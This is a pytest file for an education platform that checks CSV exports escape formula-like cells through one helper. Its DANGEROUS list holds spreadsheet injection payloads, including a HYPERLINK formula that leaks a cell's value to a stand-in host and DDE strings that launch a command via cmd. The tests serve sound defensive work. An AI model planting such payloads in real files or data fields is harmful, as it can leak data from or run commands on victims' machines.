"""Issue 9, item 8: every CSV export escapes cells a spreadsheet would run as a formula
(reports, import error files, the learners' export), through one helper."""

from __future__ import annotations

import csv
import io

import pytest

from edu_platform.models import ImportJob, ImportJobError
from edu_platform.services import imports, learners, reports
from edu_platform.services.csv_export import safe_cell
from tests.support.learning import build_world

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("value", DANGEROUS)
def test_safe_cell_quotes_formula_starts(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "", "-5.00", "12", "Иванов", "a=b"])
def test_safe_cell_leaves_ordinary_text_and_numbers(value):
    assert safe_cell(value) == value


def test_reports_csv_escapes_user_written_text(session):
    world = build_world(session)
    world.learner.full_name = DANGEROUS[0]
    world.course.title = DANGEROUS[3]
    session.add_all([world.learner, world.course])
    session.flush()
    rows, _ = reports.user_activity(session=session, actor_id=world.admin.id)
    names = [row[2] for row in _cells(reports.to_csv(rows))[1:]]
    assert "'" + DANGEROUS[0] in names
    assert DANGEROUS[0] not in names
    figures = [
        reports.CourseFigure(world.course.id, world.course.title, "-10.00", 1, 1, "RUB"),
    ]
    line = _cells(reports.to_csv(figures))[1]
    assert line[1] == "'" + DANGEROUS[3]
    assert line[2] == "-10.00"  # a negative amount stays a number


def test_import_error_csv_escapes_messages_and_fields(session):
    world = build_world(session)
    job = ImportJob(kind="users", file_path="imports/x.csv", created_by=world.admin.id)
    session.add(job)
    session.flush()
    for number, text in enumerate(DANGEROUS, start=2):
        session.add(ImportJobError(job_id=job.id, row_number=number, field="=bad", message=text))
    session.flush()
    text = imports.errors_csv(session=session, actor_id=world.admin.id, job_id=job.id)
    rows = _cells(text)[1:]
    assert [row[2] for row in rows] == ["'" + value for value in DANGEROUS]
    assert {row[1] for row in rows} == {"'=bad"}
    assert [row[0] for row in rows] == [str(n) for n in range(2, 2 + len(DANGEROUS))]


def test_learners_export_still_escapes(session):
    world = build_world(session)
    world.learner.full_name = DANGEROUS[2]
    session.add(world.learner)
    session.flush()
    text = learners.learners_csv(
        session=session, actor_id=world.admin.id, course_id=world.course.id
    )
    assert "'" + DANGEROUS[2] in [cell for row in _cells(text) for cell in row]
